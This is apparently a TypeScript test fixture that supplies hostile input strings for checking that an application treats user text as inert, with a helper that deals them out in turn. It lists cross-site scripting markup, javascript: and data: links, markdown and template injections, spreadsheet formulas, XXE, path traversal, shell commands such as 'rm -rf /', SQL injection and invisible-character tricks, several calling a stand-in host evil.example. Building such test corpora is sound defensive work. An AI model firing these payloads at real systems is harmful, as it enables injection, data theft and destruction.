/**
 * Texts that something on their way could read as more than text (threats T10, T30). Whatever of them ran would call
 * `__hostile`, raise a dialog, or ask for an address: one elsewhere, or one of the house with `/hostile` in it.
 */

/** Elements and handlers. */
const MARKUP: readonly string[] = [
  '<script>__hostile(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '</title></textarea></style></script><script>__hostile(2)</script>',
  '<img src=/hostile-1 onerror=__hostile(3)>',
  '"><img src=x onerror="__hostile(4)">',
  "'><img src=x onerror='__hostile(5)'>",
  '<svg onload=__hostile(6)>',
  '<svg><script href=data:,__hostile(7) /></svg>',
  '<svg><a xlink:href="javascript:__hostile(8)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=__hostile(9) attributeName=x dur=1s></svg>',
  '<iframe src=javascript:__hostile(10)></iframe>',
  '<iframe srcdoc="<script>parent.__hostile(11)</script>"></iframe>',
  '<math><mtext><mglyph><style><!--</style><img title="--><img src=/hostile-2 onerror=__hostile(12)>">',
  '<template><script>__hostile(13)</script></template>',
  '<details open ontoggle=__hostile(14)>x</details>',
  '<input autofocus onfocus=__hostile(15)>',
  '<body onload=__hostile(16)>',
  '<video><source onerror=__hostile(17)></video>',
  '<object data=/hostile-3></object><embed src=/hostile-4>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";*{background:url(/hostile-5)}</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href=//evil.example/>',
  '<form action=https://evil.example/><button autofocus>Enter</button></form>',
  '<a href="javascript:__hostile(18)" style="position:fixed;inset:0">x</a>',
  '<x onclick=__hostile(19) tabindex=1 id=root>',
  '<noscript><p title="</noscript><img src=x onerror=__hostile(20)>">',
  '<!--><script>__hostile(21)</script-->',
];

/** Addresses, in spellings that some reader follows. None may become a link. */
export const BAD_LINKS: readonly string[] = [
  'javascript:__hostile(30)',
  'JaVaScRiPt:__hostile(31)',
  'javascript://evil.example/%0a__hostile(32)',
  'javascript&colon;__hostile(33)',
  '&#106;avascript:__hostile(34)',
  'data:text/html,<script>__hostile(35)</script>',
  'data:text/html;base64,PHNjcmlwdD5fX2hvc3RpbGUoMSk8L3NjcmlwdD4=',
  'vbscript:msgbox(36)',
  'file:///etc/passwd',
  'blob:https://evil.example/0',
  'view-source:https://evil.example/',
  'http://evil.example/plain',
  '//evil.example/no-scheme',
  '/hostile-6',
  'https://user:word@evil.example/',
  'https:evil example',
];

/** Markdown and addresses that find themselves. */
const MARKDOWN: readonly string[] = [
  '[x](javascript:__hostile(40))',
  '[x](<javascript:__hostile(41)> "t")',
  '![x](https://evil.example/hostile.png)',
  '[x][1] [1]: javascript:__hostile(42)',
  '<javascript:__hostile(43)>',
  '`</code><script>__hostile(44)</script>`',
  '| a | b | <img src=/hostile-7> |',
  '# Heading ## * item > quote *** --- 1. one',
  'see https://evil.example/"onmouseover="__hostile(45)',
  "see https://evil.example/'onmouseover='__hostile(46)",
  'see https://evil.example/<script>__hostile(47)</script>',
  'write to mailto:a@evil.example?body=<script>__hostile(48)</script>',
];

/** Entities and letters that look or sort like others. All of them can be seen. */
const LETTERS: readonly string[] = [
  '&lt;script&gt;__hostile(50)&lt;/script&gt;',
  '&#60;img src=x onerror=__hostile(51)&#62;',
  '%3Cscript%3E__hostile(52)%3C/script%3E',
  '\\u003cscript\\u003e__hostile(53)\\u003c/script\\u003e',
  '\uff1cscript\uff1e__hostile(54)\uff1c/script\uff1e',
  '<\u017fcript>__hostile(55)</\u017fcript>',
  'p\u0430ypal.example \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \u{1f469}\u{1f3fd}',
  `Z${'\u0300\u0301\u0302\u0303'.repeat(8)}algo`,
];

/** What templates, typesetters, spreadsheets, shells and printers of formats take for an order. */
const ORDERS: readonly string[] = [
  '{{__hostile(60)}}',
  `\${__hostile(61)} #{__hostile(62)} <%= 1 %>`,
  '{{count}} $t(panel.stage) {0} %s %n %1$s %x',
  '#panic("hostile") #eval("1+1") #read("/etc/passwd")',
  '#import "@preview/evil:1.0.0": * $ sum $ @ref <label>',
  '#set page(width: 1pt) // */ /* ```',
  "=cmd|'/C calc'!A0",
  '+HYPERLINK("https://evil.example/","x")',
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '";=1+1;"',
  ']]> <![CDATA[ <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]> &e;',
  'HYPERLINK "https://evil.example" \\o \\* MERGEFORMAT',
  '\\input{/etc/passwd} $(id) `id` ; rm -rf / | cat',
  '../../../../etc/passwd',
  "'); DROP TABLE events; --",
];

/** Names that every object of the language has already. */
const NAMES: readonly string[] = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'null', 'undefined', 'NaN'];

/** Hard to set, though nothing in it is an order. */
const LONG: readonly string[] = ['W'.repeat(240), `${'<b>'.repeat(60)}x`];

/** Every letter of these can be seen: what takes texts takes them, where they fit. */
export const HOSTILE: readonly string[] = [
  ...[...MARKUP, ...BAD_LINKS, ...MARKDOWN, ...LETTERS],
  ...[...ORDERS, ...NAMES, ...LONG],
];

/** With letters that nobody sees: lines are refused with them, messages are freed of them. */
export const UNSEEN: readonly string[] = [
  'java\tscript:__hostile(70)',
  'java\u200bscript:__hostile(71)',
  'user\u202egnp.exe',
  '\u2066<script>__hostile(72)</script>\u2069',
  '<scr\u0000ipt>__hostile(73)</scr\u0000ipt>',
  'one\u2028__hostile(74)',
  '=\u0008cmd\u001b[2J',
];

/** Deals out hostile texts one after the other, all of them in turn; `max` in UTF-16 units. */
export interface Dealer {
  next(max: number): string;
  /** So many different ones. */
  some(count: number, max: number): string[];
}

/** A dealer of the texts that begins at one of them. Throws when none is short enough. */
export function createDealer(from = 0): Dealer {
  let at = from;
  const next = (max: number): string => {
    for (let tries = 0; tries < HOSTILE.length; tries += 1) {
      const text = HOSTILE[at++ % HOSTILE.length];
      if (text !== undefined && text.length <= max) return text;
    }
    throw new Error(`no hostile text has ${max} letters or fewer`);
  };
  return {
    next,
    some: (count, max) => {
      const found = new Set<string>();
      for (let tries = 0; found.size < count && tries < HOSTILE.length; tries += 1) found.add(next(max));
      return [...found];
    },
  };
}
